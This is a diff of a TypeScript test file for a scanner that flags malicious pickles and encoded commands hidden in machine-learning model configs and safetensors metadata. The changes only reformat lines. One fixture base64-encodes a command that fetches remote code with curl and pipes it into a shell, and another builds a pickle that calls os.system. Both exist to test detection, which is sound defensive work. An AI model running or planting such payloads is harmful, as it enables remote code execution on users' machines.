@@ -9,13 +9,21 @@ import { scanBytes, told } from "../builders/scan.js";
 const base64 = (content: Uint8Array | string) => Buffer.from(content).toString("base64");
 const EVIL = p.osSystem();
 /** A cloudpickle of a class of a known library, as Stable-Baselines3 writes its policy. */
-const POLICY = p.pickle(p.proto(4), p.text("stable_baselines3.common.policies"), p.text("ActorCriticPolicy"), p.stackGlobal, p.stop);
+const POLICY = p.pickle(
+  p.proto(4),
+  p.text("stable_baselines3.common.policies"),
+  p.text("ActorCriticPolicy"),
+  p.stackGlobal,
+  p.stop,
+);
 
 const scanJson = async (value: unknown) => told(await scanBytes("data", JSON.stringify(value)));
 
 describe("a text that spells a pickle", () => {
   it("is looked into where it stands in a configuration", async () => {
-    const entry = (pickle: Uint8Array) => ({ policy_class: { ":type:": "<class 'abc.ABCMeta'>", ":serialized:": base64(pickle) } });
+    const entry = (pickle: Uint8Array) => ({
+      policy_class: { ":type:": "<class 'abc.ABCMeta'>", ":serialized:": base64(pickle) },
+    });
     expect(await scanJson(entry(EVIL))).toContain("critical pickle/unsafe-call");
     expect((await scanJson(entry(POLICY))).filter((line) => !/^(?:info|low)/.test(line))).toEqual([]);
     expect(await scanJson(entry(PLAIN_PICKLE))).toEqual([]);
@@ -27,7 +35,8 @@ describe("a text that spells a pickle", () => {
   });
 
   it("is told where metadata holds it, and other base64 is not", async () => {
-    const metadata = async (value: string) => told(await scanBytes("m.safetensors", oneTensor({ __metadata__: { value } })));
+    const metadata = async (value: string) =>
+      told(await scanBytes("m.safetensors", oneTensor({ __metadata__: { value } })));
     expect(await metadata(base64(EVIL))).toEqual(["medium config/encoded-content"]);
     const icon = base64(Buffer.concat([Buffer.from("\x89PNG\r\n\x1a\n", "latin1"), Buffer.alloc(400, 7)]));
     for (const text of [icon, base64('{"learning_rate": 0.001, "note": "os.path is fine"}'), "a".repeat(64)]) {
@@ -36,7 +45,9 @@ describe("a text that spells a pickle", () => {
   });
 
   it("is told where it spells a command", async () => {
-    expect(await scanJson({ hook: base64("import os;os.system('curl http://203.0.113.7/x | sh')") })).toEqual(["medium config/command-text"]);
+    expect(await scanJson({ hook: base64("import os;os.system('curl http://203.0.113.7/x | sh')") })).toEqual([
+      "medium config/command-text",
+    ]);
     expect(await scanJson({ hook: base64("import numpy as np; np.mean([1, 2, 3])") })).toEqual([]);
   });
 });
